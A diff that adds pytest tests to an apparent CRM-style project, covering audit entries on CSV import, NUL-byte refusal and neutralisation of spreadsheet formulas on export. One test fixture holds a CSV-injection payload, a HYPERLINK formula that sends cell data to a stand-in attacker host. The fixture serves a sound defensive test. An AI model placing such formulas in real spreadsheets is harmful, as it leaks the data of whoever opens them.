@@ -216,3 +216,113 @@ def test_people_import_with_positions(session):
     bad = csv_bytes("name,title,organization\nX,boss,No Such Company\n")
     with pytest.raises(ImportFileError, match="organization"):
         import_file(session=session, actor=SYSTEM, kind="person", name="p2.csv", content=bad)
+
+
+def _trail(session, **where):
+    from cooplab.core.audit import AuditEntry
+
+    stmt = select(AuditEntry).order_by(AuditEntry.id)
+    for column, value in where.items():
+        stmt = stmt.where(getattr(AuditEntry, column) == value)
+    return list(session.scalars(stmt))
+
+
+def test_import_writes_audit_entries(session):
+    content = csv_bytes(
+        HEADER + "Ромашка,ru,en:Romashka,supplier,2,RU,,7707083893\nUzAuto Motors,en,,oem,,UZ,,\n"
+    )
+    import_file(session=session, actor=SYSTEM, kind="org", name="orgs.csv", content=content)
+    session.commit()
+    orgs = dict(session.execute(select(Organization.id, Organization.name)).all())
+    created = {e.entity_id: e.after for e in _trail(session, entity_type="organizations", action="create")}
+    assert {i: a["name"] for i, a in created.items()} == orgs
+    names = session.execute(select(OrganizationName.id, OrganizationName.value)).all()
+    name_entries = _trail(session, entity_type="organization_names", action="create")
+    assert sorted((e.entity_id, e.after["value"]) for e in name_entries) == sorted(names)
+    (ident,) = _trail(session, entity_type="identifiers", action="create")
+    assert ident.after == {
+        "organization_id": ident.after["organization_id"],
+        "scheme": "inn",
+        "value": "7707083893",
+    }
+    (summary,) = _trail(session, action="import")
+    assert summary.entity_type == "organizations"
+    assert summary.after == {"file": "orgs.csv", "rows": 2, "created": 2, "updated": 0, "unchanged": 0}
+
+    changed = csv_bytes("name,kind,country,description\nРомашка,supplier,RU,Штамповка\n")
+    import_file(session=session, actor=SYSTEM, kind="org", name="again.csv", content=changed)
+    session.commit()
+    (update,) = _trail(session, entity_type="organizations", action="update")
+    target = next(i for i, n in orgs.items() if n == "Ромашка")
+    assert (update.entity_id, update.before, update.after) == (
+        target,
+        {"description": None},
+        {"description": "Штамповка"},
+    )
+
+
+def test_import_that_adds_a_name_reports_a_change(session):
+    first = csv_bytes("name,kind,country\nUzAuto Motors,oem,UZ\n")
+    import_file(session=session, actor=SYSTEM, kind="org", name="a.csv", content=first)
+    session.commit()
+    version = session.scalar(select(Organization.version))
+    more = csv_bytes("name,other_names,kind,country\nUzAuto Motors,ru:УзАвто Моторс,oem,UZ\n")
+    report = import_file(session=session, actor=SYSTEM, kind="org", name="b.csv", content=more)
+    session.commit()
+    assert (report.created, report.updated, report.unchanged) == (0, 1, 0)
+    session.expire_all()
+    assert session.scalar(select(Organization.version)) == version + 1
+    (added,) = [
+        e for e in _trail(session, entity_type="organization_names") if e.after["value"] == "УзАвто Моторс"
+    ]
+    assert added.action == "create"
+    again = import_file(session=session, actor=SYSTEM, kind="org", name="b.csv", content=more)
+    assert (again.updated, again.unchanged) == (0, 1)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "=1+1", "+1", "-2+3", "@SUM(A1)", "＝1"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_neutralises_formulas(session, fmt):
+    import csv
+
+    from openpyxl import load_workbook
+
+    from cooplab.core.spreadsheets import write_csv
+    from tests.factories import make_org
+
+    for i, formula in enumerate(FORMULAS):
+        make_org(session, f"Org {i}", description=formula)
+    session.commit()
+    data = export_records(session=session, actor=SYSTEM, kind="org", fmt=fmt)
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+        cells = [row[rows[0].index("description")] for row in rows[1:]]
+    else:
+        sheet = load_workbook(io.BytesIO(data)).active
+        rows = list(sheet.iter_rows())
+        column = [c.value for c in rows[0]].index("description")
+        assert all(row[column].data_type == "s" for row in rows[1:])
+        cells = [row[column].value for row in rows[1:]]
+    assert cells == ["'" + f for f in FORMULAS]
+    # a tab or a carriage return opens a formula too (descriptions lose them at the boundary)
+    assert next(csv.reader(io.StringIO(write_csv([["\t=1", "\r=1", "a=1"]]).decode("utf-8-sig")))) == [
+        "'\t=1",
+        "'\r=1",
+        "a=1",
+    ]
+    # and reading the file back gives the texts as they were
+    before = sorted(session.scalars(select(Organization.description)))
+    report = import_file(session=session, actor=SYSTEM, kind="org", name=f"orgs.{fmt}", content=data)
+    assert report.unchanged == len(FORMULAS)
+    session.expire_all()
+    assert sorted(session.scalars(select(Organization.description))) == before
+
+
+def test_a_nul_character_in_a_csv_cell_is_refused(session):
+    content = csv_bytes("name,kind,country\nUzAuto Motors,oem,UZ\nZavod\x00 Tolyatti,supplier,RU\n")
+    with pytest.raises(ImportFileError, match="row 3 holds a NUL") as refused:
+        import_file(session=session, actor=SYSTEM, kind="org", name="orgs.csv", content=content)
+    assert refused.value.details[0]["loc"] == ["orgs.csv", 3]
+    assert count(session, Organization) == 0
